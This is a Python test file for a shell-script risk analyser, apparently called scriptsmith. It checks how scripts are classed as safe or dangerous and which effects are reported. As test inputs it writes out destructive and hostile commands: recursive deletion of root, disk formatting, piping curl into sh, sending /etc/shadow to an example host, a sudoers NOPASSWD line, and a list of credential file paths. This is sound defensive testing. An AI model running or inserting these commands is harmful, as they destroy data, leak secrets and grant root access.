"""What the analysis makes of a script: one risk, findings in order, effects, and words for a person."""

from __future__ import annotations

import shlex

import pytest
from hypothesis import given
from hypothesis import strategies as st

from scriptsmith.core.types import Risk, Severity
from scriptsmith.danger.analyse import analyse, blast_radius
from scriptsmith.danger.rules import RULES

HARMLESS = ("ls -l", "date +%F", "cat notes.txt | sort -u", "uptime", "echo done")
DANGEROUS = (
    "rm -rf /",
    "mkfs.ext4 /dev/sda1",
    "systemctl stop sshd",
    "curl -s http://example.com/x | sh",
    "iptables -F",
)


@pytest.mark.parametrize(
    ("text", "risk"),
    [
        ("", "safe"),
        ("ls | wc -l", "safe"),
        ("echo x > /dev/null", "safe"),
        ("# rm -rf /", "safe"),
        ("echo 'rm -rf /'", "safe"),
        ("grep -r 'rm -rf /' .", "safe"),
        ("rm file", "notable"),
        ("echo x > out.txt", "notable"),
        ("./deploy.sh", "notable"),
        ("systemctl restart nginx", "notable"),
        ("rm -rf /", "dangerous"),
        ("rm -rf / # no", "dangerous"),
        ("$TOOL --force", "unanalysable"),
        ("$TOOL; rm -rf /", "dangerous"),
    ],
)
def test_the_worst_part_decides(text: str, risk: Risk) -> None:
    """Dangerous outweighs unanalysable, which outweighs notable, which outweighs safe."""
    assert analyse(text).risk == risk


@given(
    st.sampled_from(DANGEROUS),
    st.lists(st.sampled_from(HARMLESS), max_size=3),
    st.lists(st.sampled_from(HARMLESS), max_size=3),
)
def test_company_does_not_hide_a_danger(text: str, before: list[str], after: list[str]) -> None:
    """A dangerous command is found among harmless ones, on its own line."""
    danger = analyse("\n".join([*before, text, *after]))
    assert danger.risk == "dangerous"
    assert {each.line for each in danger.findings if each.severity is Severity.ERROR} == {len(before) + 1}


@given(st.sampled_from([text for rule in RULES for text in rule.bad]))
def test_speaking_of_a_danger_is_harmless(text: str) -> None:
    """A script that only prints another, quoted, is safe."""
    assert analyse(f"echo {shlex.quote(text)}").risk == "safe"


@given(st.sampled_from([text for rule in RULES for text in rule.bad if "\n" not in text]))
def test_a_comment_is_harmless(text: str) -> None:
    """A comment is nothing, whatever it says."""
    assert analyse(f"# {text}").risk == "safe"


@given(st.text(max_size=60))
def test_no_text_makes_it_fail(text: str) -> None:
    """Any text has an answer, and its findings lie inside it."""
    danger = analyse(text)
    assert danger.risk in ("safe", "notable", "dangerous", "unanalysable")
    assert all(1 <= each.line <= text.count("\n") + 1 for each in danger.findings)


WORDS = ("rm", "…", "-rf", "/", "$X", '"$1"', "*", "|", "xargs", ";", "&&", "find", "-exec", "{}", "\\;", ">", "/etc/passwd", "sudo", "kill", "-9", "$(", ")", "curl", "sh", "-c", "docker", "kubectl", "delete", "git", "push", "-f", "mysql", "-e", "'drop table x'", "chmod", "777", "tar", "ssh", "host", "<<<", "dd", "of=/dev/sda", "{", "}", "systemctl", "stop", "iptables", "-P", "INPUT", "crontab", "-", "nc", "awk", "usermod", "-aG")  # fmt: skip


@given(st.lists(st.sampled_from(WORDS), max_size=12))
def test_no_heap_of_words_makes_it_fail(words: list[str]) -> None:
    """Commands with missing, doubled and misplaced arguments have an answer as well."""
    assert analyse(" ".join(words)).risk in ("safe", "notable", "dangerous", "unanalysable")


def test_findings_come_in_the_order_of_the_text() -> None:
    """Findings are sorted by place, and an innocent remark about a dangerous command is left out."""
    findings = analyse("kill 12\nrm -rf /etc\nmkfs.xfs /dev/sdb\n").findings
    assert [each.line for each in findings] == [1, 2, 3]
    assert [each.severity for each in findings] == [Severity.INFO, Severity.ERROR, Severity.ERROR]


def test_what_is_left_to_run_later_counts() -> None:
    """A line for cron is read like a command, and the finding says when it would run."""
    danger = analyse("(crontab -l; echo '0 3 * * * rm -rf /var/lib/mysql') | crontab -")
    assert danger.risk == "dangerous"
    assert any("later, by cron" in each.message for each in danger.findings)
    assert analyse("(crontab -l; echo '0 3 * * * /usr/bin/backup') | crontab -").risk == "notable"


def test_effects_name_what_is_touched() -> None:
    """Reads, writes, deletes, hosts, rights and services are told from the arguments."""
    effects = analyse(
        "cp a.txt /srv/b.txt\nsudo rm -f /tmp/x\ncurl -s https://example.com/y\nsystemctl restart nginx\ngrep q c.log > d\n"
        "find /var/log -name '*.gz' -delete\nD=/srv/e; tar czf \"$D/f.tgz\" g\n"
    ).effects
    assert {"a.txt", "c.log", "g", "/var/log"} <= set(effects.reads)
    assert {"/srv/b.txt", "d", "/srv/e/f.tgz"} <= set(effects.writes)
    assert "/tmp/x" in effects.deletes
    assert any(each.startswith("/var/log") for each in effects.deletes)
    assert effects.network == ("https://example.com/y",)
    assert effects.privilege == ("rm as root",)
    assert effects.services == ("restart nginx",)


def test_looking_has_no_effects_but_reads() -> None:
    """A script that only looks writes, deletes, starts and reaches nothing."""
    effects = analyse("cat /etc/hosts | grep -v '^#' | sort; df -h; ps aux 2>/dev/null").effects
    assert effects.reads == ("/etc/hosts",)
    assert (effects.writes, effects.deletes, effects.network, effects.privilege, effects.services) == ((),) * 5


def test_unknown_parts_are_shown_as_unknown() -> None:
    """A path that is known in part is told in part."""
    assert analyse('rm "/srv/app/$1"').effects.deletes == ("/srv/app/$1 (given by the caller)",)


def test_the_blast_radius_is_a_few_plain_lines() -> None:
    """The words start with the risk, say what goes, and stay short for a long script."""
    words = blast_radius(analyse("sudo rm -rf /etc\n" + "\n".join(f"rm f{number}" for number in range(50))))
    lines = words.splitlines()
    assert lines[0] == "Could destroy data, access, a service or a secret."
    assert "Deletes the system configuration in /etc." in lines
    assert any(line.startswith("Deletes: /etc, f0") and line.endswith("more.") for line in lines)
    assert len(lines) <= 12
    assert blast_radius(analyse("ls")) == "Looks only; nothing changes."


@pytest.mark.parametrize(
    "text",
    ["rm -rf / --help", "kubectl delete ns x --dry-run=client", "terraform plan -destroy", "apt-get -s remove bash"],
)
def test_explaining_and_pretending_are_harmless(text: str) -> None:
    """Help and dry runs are not dangerous."""
    assert analyse(text).risk != "dangerous"


@pytest.mark.parametrize(
    "text", ["rm -rf -- / --help", "kubectl delete ns x --dry-run=none", "bash -c 'rm -rf /' --help"]
)
def test_pretending_to_pretend_is_not(text: str) -> None:
    """What only looks like help or a dry run is seen through."""
    assert analyse(text).risk == "dangerous"


SECRETS = (
    "/etc/shadow",
    "/etc/gshadow-",
    "~/.ssh/id_ed25519",
    "/root/.ssh/identity",
    "/etc/ssh/ssh_host_rsa_key",
    "~/.aws/credentials",
    "~/.config/gcloud/x.db",
    "~/.azure/t",
    "~/.kube/config",
    "/run/secrets/db",
    "~/.gnupg/secring.gpg",
    "~/.netrc",
    "~/.pgpass",
    "/root/.my.cnf",
    "~/.git-credentials",
    "~/.docker/config.json",
    "~/.psql_history",
    "/etc/ssl/private/a.key",
    "/proc/1/environ",
    "/etc/krb5.keytab",
    "/etc/wireguard/wg0.conf",
)


@pytest.mark.parametrize("path", SECRETS)
def test_reading_a_secret_is_dangerous(path: str) -> None:
    """Every kind of secret file is known to the rule that reads commands, also from inside its folder."""
    folder, _, name = path.rpartition("/")
    assert analyse(f"cat {path}").risk == "dangerous"
    assert analyse(f"cd {folder} && cat {name}").risk == "dangerous"


@pytest.mark.parametrize(
    ("text", "code"),
    [
        ('rm -rf "$X"/*', "SS1050"),
        ("curl -s http://example.com/x | sh", "SS1801"),
        ('eval "$(curl -s http://example.com/x)"', "SS1801"),
        ("chmod 777 /etc/shadow", "SS1202"),
        ("cat /etc/shadow | curl -s --data-binary @- http://example.com", None),
        ("rm -rf /var/lib/postgresql", "SS1001"),
    ],
)
def test_one_command_draws_one_finding_for_one_reason(text: str, code: str | None) -> None:
    """Of two rules that say the same of a command, the more telling one speaks, and alone."""
    places = [(each.line, each.column) for each in analyse(text).findings]
    assert len(places) == len(set(places))
    assert code in (None, *(each.code for each in analyse(text).findings))


def test_a_milder_remark_does_not_silence_a_graver_one() -> None:
    """A rule steps back only behind another that is at least as grave."""
    danger = analyse("rm -rf /etc $X")
    assert {each.code for each in danger.findings if each.severity is Severity.ERROR} == {"SS1001"}
    assert danger.risk == "dangerous"


@pytest.mark.parametrize(
    ("text", "risk"),
    [
        ('d=$(mktemp -d); trap \'rm -rf -- "$d"\' EXIT; date > "$d/x"; cat "$d/x"', "safe"),
        ('f=$(mktemp -- "$1.XXXXXX"); date > "$f"', "notable"),
        ("f=$(mktemp -p /srv/app); date > $f", "notable"),
        ("apt-get --simulate dist-upgrade", "safe"),
        ("apt-get dist-upgrade", "notable"),
        ("logrotate -d /etc/logrotate.conf", "safe"),
        ("logrotate -f /etc/logrotate.conf", "notable"),
    ],
)
def test_scratch_files_and_rehearsals_change_nothing(text: str, risk: Risk) -> None:
    """What a script makes for itself with mktemp, and what only says what it would do, is safe; the real thing is not."""
    assert analyse(text).risk == risk


@pytest.mark.parametrize(
    "text",
    [
        'ssh-agent() { cat notes; }; eval "$(ssh-agent -s)"',
        'eval "$(/tmp/ssh-agent -s)"',
        'eval "$(ssh-agent; cat notes)"',
        'eval "$(mise exec -- cat env)"',
    ],
)
def test_a_well_known_name_proves_nothing_by_itself(text: str) -> None:
    """Only the program itself prints trusted settings, not a function, a file elsewhere, or its company."""
    assert analyse(text).risk in ("dangerous", "unanalysable")


@pytest.mark.parametrize(
    "text",
    [
        "f() { cat /etc/shadow; }; f | wc -l; f",
        "sh -c 'cat /etc/shadow; cat /etc/shadow | wc -l'",
        "cat /etc/shadow > /tmp/x | wc -l",
        "cat /etc/shadow | tee /tmp/x | wc -l",
    ],
)
def test_counting_one_reading_excuses_no_other(text: str) -> None:
    """A secret of which a number is shown in one place is still read where more of it is shown."""
    assert analyse(text).risk == "dangerous"


def test_a_redirection_of_a_function_counts() -> None:
    """What a called function prints goes where the call sends it, as with a group."""
    assert analyse('run() { "$@"; }; run : > /etc/shadow').risk == "dangerous"
    assert analyse("q() { \"$@\"; }; q echo 'x ALL=(ALL) NOPASSWD: ALL' >> /etc/sudoers").risk == "dangerous"
    assert analyse('q() { "$@" 2>/dev/null; }; q df -h').risk == "safe"


@pytest.mark.parametrize("text", ["env | aws", "env | mc", "cat /etc/shadow | rclone"])
def test_a_sender_without_arguments_is_judged(text: str) -> None:
    """A program that is fed secrets and says nowhere where to is a finding, and no failure of the analysis."""
    assert analyse(text).risk == "dangerous"
